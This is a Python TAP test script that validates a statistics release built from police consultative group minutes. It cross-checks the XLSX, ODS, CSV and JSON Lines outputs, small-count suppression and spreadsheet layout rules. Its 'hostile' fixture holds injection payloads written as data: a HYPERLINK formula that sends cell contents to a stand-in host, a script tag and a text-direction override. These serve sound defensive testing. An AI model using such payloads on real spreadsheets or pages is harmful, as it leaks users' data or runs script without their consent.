#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Asserts the rules of a release: the workbook against those for statistics in spreadsheets, XLSX against ODS against CSV
against JSON Lines cell by cell, the files against their descriptors, wards against what must stay back.

  check.py CPEG             TAP; reads the sample minutes of $CPEG_SOURCE
  check.py CPEG --office    the same workbook as LibreOffice reads it; only where CPEG_FULL is set

Every check gives a list of faults; each is also shown a spoiled copy, so that a check that cannot fail is told."""
import csv, io, json, os, re, shutil, subprocess, sys, tempfile, zipfile
import xml.etree.ElementTree as tree

MAIN = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'
REL = '{http://schemas.openxmlformats.org/officeDocument/2006/relationships}'
OFFICE, TABLE, TEXT = ('{urn:oasis:names:tc:opendocument:xmlns:%s:1.0}' % name for name in ('office', 'table', 'text'))
SHORTHAND = ('[c]', '[x]', '[z]')
LONG = ('concerns_by_quarter',)  # CSV and JSON Lines only
OF_STATUS = {'confidential': '[c]', 'not_available': '[x]'}


# ---- Reading -----------------------------------------------------------------------------------------

def read(folder, name, mode='rb'):
    with open(os.path.join(folder, name), mode) as file:
        return file.read()


def column_of(letters):
    number = 0
    for letter in letters:
        number = number * 26 + ord(letter) - 64
    return number - 1


def members(data):
    with zipfile.ZipFile(io.BytesIO(data)) as container:
        return [(info, container.read(info)) for info in container.infolist()]


def xlsx_sheets(parts):
    """[(name, root, {table roots})] and {name: [[cell, ...] of each row]}; a number is a float."""
    strings = [''.join(t.text or '' for t in item.iter(MAIN + 't')) for item in tree.fromstring(parts['xl/sharedStrings.xml'])]
    book = tree.fromstring(parts['xl/workbook.xml'])
    links = {link.get('Id'): link.get('Target') for link in tree.fromstring(parts['xl/_rels/workbook.xml.rels'])}
    sheets, rows = [], {}
    for sheet in book.find(MAIN + 'sheets'):
        path = 'xl/' + links[sheet.get(REL + 'id')]
        root = tree.fromstring(parts[path])
        own = path.replace('worksheets/', 'worksheets/_rels/') + '.rels'
        tables = []
        if own in parts:
            tables = [tree.fromstring(parts['xl/' + link.get('Target')[3:]]) for link in tree.fromstring(parts[own])
                      if link.get('Target').startswith('../tables/')]
        grid = []
        for row in root.find(MAIN + 'sheetData'):
            while len(grid) < int(row.get('r')) - 1:
                grid.append([])
            cells = []
            for cell in row:
                at = column_of(re.match('[A-Z]+', cell.get('r')).group())
                value = cell.find(MAIN + 'v')
                while len(cells) < at:
                    cells.append(None)
                if value is None:
                    cells.append(None)
                elif cell.get('t') == 's':
                    cells.append(strings[int(value.text)])
                else:
                    cells.append(float(value.text))
            grid.append(cells)
        sheets.append((sheet.get('name'), root, tables))
        rows[sheet.get('name')] = grid
    return sheets, rows


def ods_rows(parts):
    rows = {}
    for sheet in tree.fromstring(parts['content.xml']).iter(TABLE + 'table'):
        grid = []
        for row in sheet.iter(TABLE + 'table-row'):
            cells = []
            for cell in row:
                if cell.get(OFFICE + 'value-type') == 'float':
                    cells.append(float(cell.get(OFFICE + 'value')))
                else:
                    cells.append(''.join(''.join(p.itertext()) for p in cell.iter(TEXT + 'p')))
            grid.append(cells)
        rows[sheet.get(TABLE + 'name')] = grid
    return rows


def load(folder):
    data = {'csv': {}, 'jsonl': {}}
    data['package'] = json.loads(read(folder, 'datapackage.json'))
    data['csvw'] = json.loads(read(folder, 'csv-metadata.json'))
    for name in (resource['name'] for resource in data['package']['resources']):
        data['csv'][name] = list(csv.reader(io.StringIO(read(folder, name + '.csv').decode('utf-8'), newline='')))
        data['jsonl'][name] = [json.loads(line) for line in read(folder, name + '.jsonl').decode('utf-8').splitlines()]
    if os.path.exists(os.path.join(folder, 'report.xlsx')):
        data['xlsx'] = members(read(folder, 'report.xlsx'))
        data['ods'] = members(read(folder, 'report.ods'))
    return data


def parts_of(container):
    return {info.filename: content for info, content in container}


# ---- Checks: each gives faults ---------------------------------------------------------------------------

def check_xlsx(data):
    faults = []
    parts = parts_of(data['xlsx'])
    sheets, rows = xlsx_sheets(parts)
    names = [name for name, root, tables in sheets]
    if names[:3] != ['cover', 'contents', 'notes']:
        faults.append('the first sheets are %s' % names[:3])
    for name, root, tables in sheets:
        for what in ('mergeCells', 'autoFilter', 'dataValidations', 'conditionalFormatting', 'drawing'):
            if root.find(MAIN + what) is not None:
                faults.append('%s has %s' % (name, what))
        if any(True for element in root.iter(MAIN + 'f')):
            faults.append('%s has a formula' % name)
        if any(True for element in root.iter(MAIN + 'pane')):
            faults.append('%s is frozen' % name)
        for at in root.iter(MAIN + 'selection'):
            if at.get('activeCell', 'A1') != 'A1':
                faults.append('the cursor of %s is not in A1' % name)
        if root.find(MAIN + 'cols') is None:
            faults.append('%s has no widths' % name)
        faults += check_paper(name, root, rows[name])
        grid = rows[name]
        if any(not row or row[0] in (None, '') for row in grid):
            faults.append('%s has a blank row' % name)
        faults += check_table(name, grid, tables)
    views = tree.fromstring(parts['xl/workbook.xml']).find(MAIN + 'bookViews')
    if views[0].get('activeTab', '0') != '0':
        faults.append('it does not open on its cover')
    fills = tree.fromstring(parts['xl/styles.xml']).find(MAIN + 'fills')
    if any(fill[0].get('patternType') not in ('none', 'gray125') for fill in fills):
        faults.append('cells are filled')
    core = parts['docProps/core.xml'].decode('utf-8')
    for what in ('dc:title', 'dc:subject', 'dc:creator', 'dcterms:created'):
        if '<' + what not in core:
            faults.append('the document has no %s' % what)
    return faults


def check_paper(name, root, grid):
    """As wide as a page, across; a row whose text is wider than its column is higher than a line."""
    faults = []
    page = root.find(MAIN + 'pageSetup')
    if page is None or page.get('orientation') != 'landscape' or page.get('fitToHeight') != '0' or page.get('paperSize') != '9':
        faults.append('%s does not fit on paper' % name)
    widths = {}
    for column in root.find(MAIN + 'cols'):
        for at in range(int(column.get('min')) - 1, int(column.get('max'))):
            widths[at] = float(column.get('width'))
    above = len(grid) if name == 'cover' else next((i for i, row in enumerate(grid) if len(row) > 1), 0)
    for row in root.find(MAIN + 'sheetData'):
        at = int(row.get('r')) - 1
        texts = [] if at < above and (name != 'cover' or at == 0) else list(enumerate(grid[at]))
        if any(isinstance(text, str) and len(text) > widths.get(i, 9) + 2 for i, text in texts) and float(row.get('ht', '15')) < 30:
            faults.append('row %d of %s is too low for its text' % (at + 1, name))
    return faults


def check_table(name, grid, tables):
    """One marked-up table below its lines, each heading that of its cell, no blank cell in it."""
    if name == 'cover':
        return ['the cover has a table'] if tables else []
    start = next((i for i, row in enumerate(grid) if len(row) > 1), None)
    if start is None:
        return ['%s has no headings' % name]
    faults = []
    head, body = grid[start], grid[start + 1:]
    if any(cell in (None, '') for row in body for cell in row) or any(len(row) != len(head) for row in body):
        faults.append('%s has a blank cell' % name)
    if len(set(head)) != len(head):
        faults.append('%s has a heading twice' % name)
    if start < 2:
        faults.append('%s does not say what it holds' % name)
    if any(cell == mark for row in body for cell in row for mark in SHORTHAND) and not any('[z] not applicable' in row[0] for row in grid[:start]):
        faults.append('%s does not explain its shorthand above the table' % name)
    if not body:
        return faults + (['%s has a table without rows' % name] if tables else [])
    if len(tables) != 1:
        return faults + ['%s has %d tables' % (name, len(tables))]
    table = tables[0]
    first, last = (re.match('([A-Z]+)([0-9]+)', part).groups() for part in table.get('ref').split(':'))
    area = (column_of(first[0]), int(first[1]) - 1, column_of(last[0]), int(last[1]) - 1)
    if area != (0, start, len(head) - 1, start + len(body)):
        faults.append("the table of %s is %s" % (name, table.get('ref')))
    if table.get('name') != name:
        faults.append('the table of %s is called %s' % (name, table.get('name')))
    if [column.get('name') for column in table.iter(MAIN + 'tableColumn')] != head:
        faults.append('the table of %s has other headings than its cells' % name)
    if table.find(MAIN + 'autoFilter') is not None:
        faults.append('%s has a filter' % name)
    return faults


def check_ods(data):
    faults = []
    if b'style:scale-to-X="1"' not in parts_of(data['ods'])['styles.xml'] or \
            b'<table:table table:name="cover" table:style-name="sheet">' not in parts_of(data['ods'])['content.xml']:
        faults.append('the ODS does not fit on paper')
    first, content = data['ods'][0]
    if (first.filename, first.compress_type, first.extra) != ('mimetype', 0, b'') or content != b'application/vnd.oasis.opendocument.spreadsheet':
        faults.append('the first member is not the stored mimetype')
    if any(info.date_time != (1980, 1, 1, 0, 0, 0) for info, text in data['ods']):
        faults.append('a member has a date')
    parts = parts_of(data['ods'])
    for name in ('content.xml', 'meta.xml', 'styles.xml', 'META-INF/manifest.xml'):
        tree.fromstring(parts[name])
    root = tree.fromstring(parts['content.xml'])
    for cell in root.iter(TABLE + 'table-cell'):
        if any('spanned' in key or 'formula' in key for key in cell.keys()):
            faults.append('a cell is merged, or a formula')
    rows = ods_rows(parts)
    ranges = {area.get(TABLE + 'name'): area.get(TABLE + 'target-range-address') for area in root.iter(TABLE + 'database-range')}
    for name, grid in rows.items():
        if any(not row or '' in row for row in grid):
            faults.append('%s has a blank' % name)
        start = next((i for i, row in enumerate(grid) if len(row) > 1), None)
        if name == 'cover' or start is None or start + 1 == len(grid):
            continue
        last = re.match(r'.*\.([A-Z]+)([0-9]+)$', ranges.get(name, ''))
        if last is None or (column_of(last.group(1)), int(last.group(2))) != (len(grid[start]) - 1, len(grid)):
            faults.append('the table of %s is marked up as %s' % (name, ranges.get(name)))
    return faults


def check_same_books(data):
    left, right = xlsx_sheets(parts_of(data['xlsx']))[1], ods_rows(parts_of(data['ods']))
    if list(left) != list(right):
        return ['the sheets are %s and %s' % (list(left), list(right))]
    return ['%s row %d: %s and %s' % (name, i + 1, a, b) for name in left for i, (a, b) in enumerate(zip(left[name], right[name])) if a != b] + \
        ['%s has %d rows and %d' % (name, len(left[name]), len(right[name])) for name in left if len(left[name]) != len(right[name])]


def fields_of(data, name):
    return next(resource for resource in data['package']['resources'] if resource['name'] == name)['schema']['fields']


def is_same(shown, text, field, row):
    """Is what a workbook shows what the CSV file says?"""
    if text == '':
        want = OF_STATUS.get(row.get('value_status')) if field['name'] == 'value' else None
        return shown in SHORTHAND and (want is None or shown == want)
    if field['type'] in ('integer', 'number'):
        return isinstance(shown, float) and shown == float(text)
    return shown == (text[1:] if text.startswith("'") else text)


def check_csv_books(data, rows=None):
    rows = rows or xlsx_sheets(parts_of(data['xlsx']))[1]
    faults = []
    for name, lines in data['csv'].items():
        if name in LONG:
            faults += ['%s is in the workbook' % name] if name in rows else []
            continue
        grid = rows.get(name, [])
        start = next((i for i, row in enumerate(grid) if len(row) > 1), 0)
        fields = fields_of(data, name)
        if grid[start] != [field['title'] for field in fields] or len(grid) - start != len(lines):
            faults.append('%s: headings or number of rows differ' % name)
            continue
        for shown, line in zip(grid[start + 1:], lines[1:]):
            row = dict(zip(lines[0], line))
            faults += ['%s: the workbook has %r, the CSV file %r' % (name, a, b) for a, b, field in zip(shown, line, fields) if not is_same(a, b, field, row)]
    return faults


PATTERNS = {'integer': r'-?[0-9]+', 'number': r'-?[0-9]+(\.[0-9]+)?(e[-+][0-9]+)?', 'boolean': 'true|false', 'date': '[0-9]{4}-[0-9]{2}-[0-9]{2}', 'string': r'(?s).*'}
DATATYPES = {'integer': 'integer', 'number': 'double', 'boolean': 'boolean', 'date': 'date', 'string': 'string'}


def check_schema(data):
    """Each file against the data package, that against CSVW and the dictionary."""
    faults = []
    words = {(row[0], row[1]): row for row in data['csv']['dictionary'][1:]}
    tables = {table['url']: table for table in data['csvw']['tables']}
    for resource in data['package']['resources']:
        name, fields = resource['name'], resource['schema']['fields']
        lines = data['csv'][name]
        if lines[0] != [field['name'] for field in fields]:
            faults.append('%s: other columns than the data package says' % name)
            continue
        columns = tables[name + '.csv']['tableSchema']['columns']
        if [(c['name'], c['datatype'], c.get('required', False)) for c in columns] != \
                [(f['name'], DATATYPES[f['type']], f.get('constraints', {}).get('required', False)) for f in fields]:
            faults.append('%s: the two descriptors differ' % name)
        for field in fields:
            if name == 'dictionary':
                continue
            entry = words.get((name, field['name']))
            if entry is None or entry[3] != field['type'] or not entry[5]:
                faults.append('%s.%s is not in the dictionary' % (name, field['name']))
        for line in lines[1:]:
            if len(line) != len(fields):
                faults.append('%s: a row of %d cells' % (name, len(line)))
            for text, field in zip(line, fields):
                if text == '' and field.get('constraints', {}).get('required'):
                    faults.append('%s.%s is empty' % (name, field['name']))
                if text != '' and not re.fullmatch(PATTERNS[field['type']], text):
                    faults.append('%s.%s is %r' % (name, field['name'], text))
                if field['type'] == 'string' and text[:1] in tuple('=+-@\t\r'):
                    faults.append('%s.%s would run as a formula: %r' % (name, field['name'], text))
        for key in resource['schema'].get('primaryKey', []):
            values = [line[lines[0].index(key)] for line in lines[1:]]
            if len(set(values)) != len(values):
                faults.append('%s.%s is not unique' % (name, key))
    return faults


def check_jsonl(data):
    faults = []
    for name, lines in data['csv'].items():
        objects = data['jsonl'][name]
        if len(objects) != len(lines) - 1:
            faults.append('%s: %d objects, %d rows' % (name, len(objects), len(lines) - 1))
        for got, line in zip(objects, lines[1:]):
            if got.get('type') != name:
                faults.append('%s: an object of type %s' % (name, got.get('type')))
            for field, text in zip(fields_of(data, name), line):
                value = got[field['name']]
                if text == '' or value is None:
                    same = text == '' and value is None
                elif field['type'] in ('integer', 'number'):
                    same = float(text) == value
                elif field['type'] == 'boolean':
                    same = (text == 'true') == value
                else:
                    same = value == (text[1:] if text.startswith("'") else text)
                if not same:
                    faults.append('%s.%s is %r and %r' % (name, field['name'], value, text))
    return faults


def wards(data):
    lines = data['csv']['concerns_ward']
    groups = {}
    for row in (dict(zip(lines[0], line)) for line in lines[1:]):
        groups.setdefault((row['borough_code'], row['concern']), []).append(row)
    return groups


def check_wards(data, truth):
    """`truth` is the same quarter with small counts. No count that stays back is the rest of a known sum."""
    faults = []
    true = wards(truth)
    for key, rows in wards(data).items():
        shown = {row['area_code']: row['value'] for row in rows if row['area_code']}
        joint = [row for row in rows if not row['area_code']]
        full = {row['area_code']: row['value'] for row in true[key]}
        if any(full.get(code) != value for code, value in shown.items()):
            faults.append('%s: a ward has another count than is true' % (key,))
        if any(row['value'] != '' or row['value_status'] != 'confidential' for row in joint) or len(joint) > 1:
            faults.append('%s: what stays back is told' % (key,))
        hidden = [value for code, value in full.items() if code not in shown]
        if bool(hidden) != bool(joint):
            faults.append('%s: %d wards stay back, %d rows say so' % (key, len(hidden), len(joint)))
        # The sum of all wards less those that are shown would be a lone ward's count.
        if len(hidden) == 1 and shown:
            faults.append('%s: the count that stays back can be worked out' % (key,))
    if len(wards(data)) > len(true):
        faults.append('there are more concerns than with small counts')
    return faults


def rows_of(data, name):
    lines = data['csv'][name]
    return [dict(zip(lines[0], line)) for line in lines[1:]]


def check_pack(data):
    """Figures of the pack are those of the tables it is made of; what is said in it was said."""
    faults = []
    best, mentions = rows_of(data, 'consultation'), rows_of(data, 'mentions')
    figures = {(row['area_code'], row['concern']): row for row in rows_of(data, 'concerns_london') + rows_of(data, 'concerns_borough')}
    for row in best:
        full = figures[row['area_code'], row['concern']]
        faults += ['%s of %s: %s' % (row['concern'], row['area'], key) for key in ('meetings', 'held', 'value', 'change', 'priority') if row[key] != full[key]]
        of = [m for m in mentions if m['concern'] == row['concern'] and (row['level'] == 'london' or m['area_code'] == row['area_code'])]
        if int(row['remarks']) != len(of) or int(row['by_residents']) != sum(m['voice'] == 'resident' for m in of):
            faults.append('%s of %s: other remarks than are published' % (row['concern'], row['area']))
        for key in ('reason', 'asked'):
            if row[key] and row[key] not in [m['sentence'] for m in of]:
                faults.append('%s of %s: nobody said %r' % (row['concern'], row['area'], row[key]))
        better = [f for (code, concern), f in figures.items() if code == row['area_code'] and int(f['meetings']) > int(row['meetings'])]
        if len(better) >= int(row['place']):
            faults.append('%s of %s: %d concerns were raised by more meetings' % (row['concern'], row['area'], len(better)))
    boroughs = {row['area_code'] for row in best if row['level'] == 'borough'}
    sums = rows_of(data, 'consultation_boroughs')
    for place, key in enumerate(('first', 'second', 'third')):
        have = sum(row['level'] == 'borough' and row['place'] == str(place + 1) for row in best)
        if sum(int(row[key]) for row in sums) != have:
            faults.append('the sum of %s is not %d boroughs' % (key, have))
    if any(int(row['named']) != int(row['first']) + int(row['second']) + int(row['third']) or int(row['named']) > len(boroughs) for row in sums):
        faults.append('a concern is named by other boroughs than have it')
    order = [([-int(row[key]) for key in ('first', 'second', 'third')], -float(row['value'])) for row in sums]
    if order != sorted(order):
        faults.append('the table of all boroughs is not in the order of places, then of shares')
    held = sum({row['area_code']: int(row['held']) for row in rows_of(data, 'concerns_borough')}.values())
    faults += ['%s: %s is not its share' % (row['concern'], row['value']) for row in sums
               if int(row['held']) != held or abs(float(row['value']) - int(row['meetings']) / held) > 0.00006]
    groups = [row['group'] for row in rows_of(data, 'feedback')]
    if sum(1 for i, group in enumerate(groups) if i == 0 or groups[i - 1] != group) != len(set(groups)):
        faults.append('what a group is told does not stand together')
    told = {(row['group'], row['concern']) for row in rows_of(data, 'feedback') if row['value']}
    if told != {(m['group'], m['concern']) for m in mentions}:
        faults.append('groups are told of other concerns than theirs')
    return faults


def check_totals(data):
    """No ward has more meetings than its borough, no borough more than London."""
    faults = []
    def rows_of(name):
        lines = data['csv'][name]
        return [dict(zip(lines[0], line)) for line in lines[1:]]
    london = {row['concern']: int(row['meetings']) for row in rows_of('concerns_london')}
    borough = {(row['area_code'], row['concern']): int(row['meetings']) for row in rows_of('concerns_borough')}
    for (code, concern), meetings in borough.items():
        if meetings > london.get(concern, 0):
            faults.append('%s of %s: more meetings than London' % (concern, code))
    for row in rows_of('concerns_ward'):
        if row['value'] and int(row['value']) > borough.get((row['borough_code'], row['concern']), 0):
            faults.append('%s of %s: more meetings than the borough' % (row['concern'], row['area']))
    for row in rows_of('concerns_london') + rows_of('concerns_borough') + rows_of('concerns_by_quarter'):
        if row['value'] and abs(float(row['value']) - int(row['meetings']) / int(row['held'])) > 0.00006:
            faults.append('%s of %s: the share is not its figures' % (row['concern'], row['area']))
        if row['value_status'] == 'not_available' and (row['value'] or row['meetings'] or row['held']):
            faults.append('%s of %s: no minutes, but a figure' % (row['concern'], row['area']))
    return faults


# ---- TAP -------------------------------------------------------------------------------------------------

count = failed = 0


def tell(sentence, faults):
    global count, failed
    count += 1
    failed += bool(faults)
    print('%s %d - %s' % ('not ok' if faults else 'ok', count, sentence))
    for fault in faults[:8]:
        print('# ' + fault)
    sys.stdout.flush()


def finds(sentence, check, *spoiled):
    """A check must find what is spoiled."""
    try:
        faults = check(*spoiled)
    except Exception as fault:
        faults = [repr(fault)]
    tell(sentence, [] if faults else ['nothing was found'])


def spoil(data, book, member, old, new):
    copy = dict(data)
    done = [(info, re.sub(old, new, content, count=1) if info.filename == member else content) for info, content in data[book]]
    assert done != data[book], member
    copy[book] = done
    return copy


def spoil_csv(data, name, column, text, row=1):
    copy = dict(data, csv=dict(data['csv']))
    lines = [list(line) for line in data['csv'][name]]
    lines[row][lines[0].index(column)] = text
    copy['csv'][name] = lines
    return copy


def run(*words):
    done = subprocess.run(words, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if done.returncode not in (0, 1):
        print('# %s: %s' % (' '.join(words), done.stderr.decode()))
    return done


HOSTILE = '''Haringey Community and Police Consultative Group

Minutes of the meeting held on 21 July 2008

1. Open questions

=HYPERLINK("http://x.example/?"&A1,"x") A resident said that dangerous dogs were let loose in the park.

+1 A resident said that dangerous dogs are let loose, "quoted", on the green.

'Dangerous dogs are let loose' said a resident.

A resident said that dangerous dogs \u202eturn round\u202c <script>alert(1)</script> & ]]> are let loose in the park.

A resident said that dangerous dogs _x0041_ %s are let loose.
''' % ('W' * 10000)


def make(cpeg, work, hostile):
    store = os.path.join(work, 'hostile.db' if hostile else 'store.db')
    source = os.path.join(os.environ['CPEG_SOURCE'], 'corpus', 'minutes')
    if hostile:
        source = os.path.join(work, 'hostile.txt')
        with open(source, 'w', encoding='utf-8') as file:
            file.write(HOSTILE)
    run(cpeg, '-q', '--store', store, 'ingest', source)
    return store


def report(cpeg, store, work, name, *words, command='report'):
    folder = os.path.join(work, name)
    done = run(cpeg, '-q', '--store', store, command, '-o', folder, *words)
    assert done.returncode == 0, name
    return folder


def all_same(folder, other, names=None):
    return [name for name in names or sorted(set(os.listdir(folder)) | set(os.listdir(other)))
            if not os.path.exists(os.path.join(other, name)) or read(folder, name) != read(other, name)]


def check_all(cpeg, work):
    store = make(cpeg, work, False)
    folder = report(cpeg, store, work, 'out')
    data = load(folder)
    truth = load(report(cpeg, store, work, 'keep', '--names', 'keep'))
    tell('there is something to check', [] if len(data['csv']['concerns_borough']) > 50 and len(data['csv']['mentions']) > 50 and
         len(data['csv']['emerging']) > 1 and any(row['value'] for rows in wards(truth).values() for row in rows) else ['too little'])
    tell('the workbook keeps the rules for statistics in spreadsheets', check_xlsx(data))
    tell('the ODS workbook keeps them too', check_ods(data))
    tell('both workbooks are the same, cell by cell', check_same_books(data))
    tell('the workbook is what the CSV files are, cell by cell', check_csv_books(data))
    tell('the CSV files are what their descriptors say', check_schema(data))
    tell('JSON Lines are what the CSV files are', check_jsonl(data))
    tell('no count of a ward that stays back can be worked out', check_wards(data, truth))
    tell('parts are not more than their whole, shares are their figures', check_totals(data))
    tell('the same store gives the same bytes', all_same(folder, report(cpeg, store, work, 'again')))
    export = report(cpeg, store, work, 'export', command='export')
    names = sorted(name for name in os.listdir(export) if name != 'manifest.json')
    tell('an export is the report without page and workbook', all_same(export, folder, names) +
         sorted(set(os.listdir(folder)) ^ set(os.listdir(export)) ^ {'report.html', 'report.xlsx', 'report.ods'}))
    borough = load(report(cpeg, store, work, 'borough', '--area', 'Haringey', '--year-start', 'april'))
    tell('a borough alone is of that borough', check_xlsx(borough) + check_csv_books(borough) + check_same_books(borough) + check_schema(borough) +
         [row[2] for row in borough['csv']['concerns_borough'][1:] if row[2] != 'Haringey'] +
         [row[2] for row in borough['csv']['mentions'][1:] if row[2] != 'Haringey'])
    pack = load(report(cpeg, store, work, 'pack', '--for', 'consultation'))
    tell('the consultation pack is whole and the same in every form', check_xlsx(pack) + check_ods(pack) + check_same_books(pack) + check_csv_books(pack) +
         check_schema(pack) + check_jsonl(pack) + check_pack(pack))
    tree.fromstring(read(os.path.join(work, 'pack'), 'consultation.html').split(b'\n', 1)[1])
    finds('a borough that is counted twice is found', check_pack, spoil_csv(pack, 'consultation_boroughs', 'named', '99'))
    finds('another order is found', check_pack, spoil_csv(pack, 'consultation_boroughs', 'first', '0'))
    finds('a remark that nobody made is found', check_pack, spoil_csv(pack, 'consultation', 'reason', 'x'))
    every = load(report(cpeg, store, work, 'all', '--filter', 'all'))
    tell('every mention holds more than the live ones', check_schema(every) + check_csv_books(every) + check_totals(every) +
         ([] if len(every['csv']['mentions']) > len(data['csv']['mentions']) else ['no more']))
    check_hostile(cpeg, work)
    check_checks(data, truth)


def check_hostile(cpeg, work):
    data = load(report(cpeg, make(cpeg, work, True), work, 'hostile'))
    tell('hostile text stays text', check_xlsx(data) + check_ods(data) + check_same_books(data) + check_csv_books(data) +
         check_schema(data) + check_jsonl(data))
    column = data['csv']['mentions'][0].index('sentence')
    sentences = [line[column] for line in data['csv']['mentions'][1:]]
    tell('what a spreadsheet would run has an apostrophe in front', [] if any(s.startswith("'=HYPERLINK") for s in sentences) and
         any(s.startswith("'+1 ") for s in sentences) and any(s.startswith("''Dangerous") for s in sentences) else sentences)
    tell('nothing turns the direction of text', [s for s in sentences if '\u202e' in s])


def check_checks(data, truth):
    sheet = 'xl/worksheets/sheet5.xml'
    finds('a merged cell is found', check_xlsx, spoil(data, 'xlsx', sheet, b'<pageMargins', b'<mergeCells/><pageMargins'))
    finds('a sheet that fits on no page is found', check_xlsx, spoil(data, 'xlsx', sheet, b'fitToHeight="0"', b''))
    finds('a row that is too low is found', check_xlsx, spoil(data, 'xlsx', 'xl/worksheets/sheet3.xml', b' ht="[0-9.]*"', b''))
    finds('a formula is found', check_xlsx, spoil(data, 'xlsx', sheet, b'<v>', b'<f>1</f><v>'))
    finds('a blank row is found', check_xlsx, spoil(data, 'xlsx', sheet, b'<row r="2".*?</row>', b''))
    finds('a heading that the table has not is found', check_xlsx, spoil(data, 'xlsx', 'xl/tables/table3.xml', b'tableColumn id="2" name="', b'tableColumn id="2" name="x'))
    finds('an ODS that fits on no page is found', check_ods, spoil(data, 'ods', 'styles.xml', b'scale-to-X="1"', b''))
    finds('a merged cell of ODS is found', check_ods, spoil(data, 'ods', 'content.xml', b'<table:table-cell ', b'<table:table-cell table:number-columns-spanned="2" '))
    finds('another figure in one workbook is found', check_same_books, spoil(data, 'ods', 'content.xml', b'office:value="1"', b'office:value="2"'))
    finds('another figure in a CSV file is found', check_csv_books, spoil_csv(data, 'concerns_london', 'meetings', '99'))
    finds('a figure where none is known is found', check_csv_books, spoil_csv(data, 'concerns_ward', 'value', '0'))
    finds('a word where a number stands is found', check_schema, spoil_csv(data, 'concerns_london', 'held', 'many'))
    finds('a formula in a CSV file is found', check_schema, spoil_csv(data, 'mentions', 'sentence', '=1+1'))
    finds('another text in a CSV file is found', check_jsonl, spoil_csv(data, 'mentions', 'sentence', 'x'))
    finds('a share that is not its figures is found', check_totals, spoil_csv(data, 'concerns_london', 'value', '0.0001'))
    key, rows = next((key, rows) for key, rows in wards(truth).items() if len(rows) > 1)
    told = {'csv': {'concerns_ward': [data['csv']['concerns_ward'][0]] + [list(row.values()) for row in rows[1:]] +
                    [['' if name in ('area_code', 'value') else 'confidential' if name == 'value_status' else rows[0][name] for name in rows[0]]]}}
    finds('a lone ward that stays back is found', check_wards, told, truth)


def check_office(cpeg, work):
    """What LibreOffice reads is what the CSV files say; it repairs nothing, or says so."""
    store = make(cpeg, work, False)
    folder = report(cpeg, store, work, 'out')
    data = load(folder)
    for name in ('report.xlsx', 'report.ods'):
        target = os.path.join(work, 'read-' + name)
        done = run('soffice', '-env:UserInstallation=file://' + os.path.join(work, 'profile'), '--headless', '--convert-to',
                   'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1', '--outdir', target, os.path.join(folder, name))
        said = (done.stdout + done.stderr).decode().lower()
        tell('LibreOffice opens %s without a word of repair' % name,
             [said] if done.returncode != 0 or 'repair' in said or 'corrupt' in said or 'error' in said else [])
        rows, faults = {}, []
        for table in (name for name in data['csv'] if name not in LONG):
            path = os.path.join(target, 'report-%s.csv' % table)
            if not os.path.exists(path):
                faults.append('no sheet %s' % table)
                continue
            with open(path, encoding='utf-8', newline='') as file:
                grid = [line for line in csv.reader(file)]
            start = next(i for i, line in enumerate(grid) if len(line) > 1 and line[1])
            types = [field['type'] for field in fields_of(data, table)]
            rows[table] = [[line[0]] for line in grid[:start]] + [grid[start]] + \
                [[float(c) if kind in ('integer', 'number') and c not in SHORTHAND else c for c, kind in zip(line, types)] for line in grid[start + 1:]]
        tell('%s as LibreOffice reads it is what the CSV files are' % name, faults or check_csv_books(data, rows))


def main():
    print('TAP version 13')
    cpeg, office = os.path.abspath(sys.argv[1]), '--office' in sys.argv
    if office and not os.environ.get('CPEG_FULL'):
        print('1..0 # SKIP LibreOffice reads the workbook in ./dev test --full only')
        return 0
    if office and shutil.which('soffice') is None:
        print('1..0 # SKIP there is no soffice: install libreoffice-calc-nogui')
        return 0
    work = tempfile.mkdtemp()
    try:
        (check_office if office else check_all)(cpeg, work)
    finally:
        shutil.rmtree(work)
    print('1..%d' % count)
    return 1 if failed else 0


sys.exit(main())
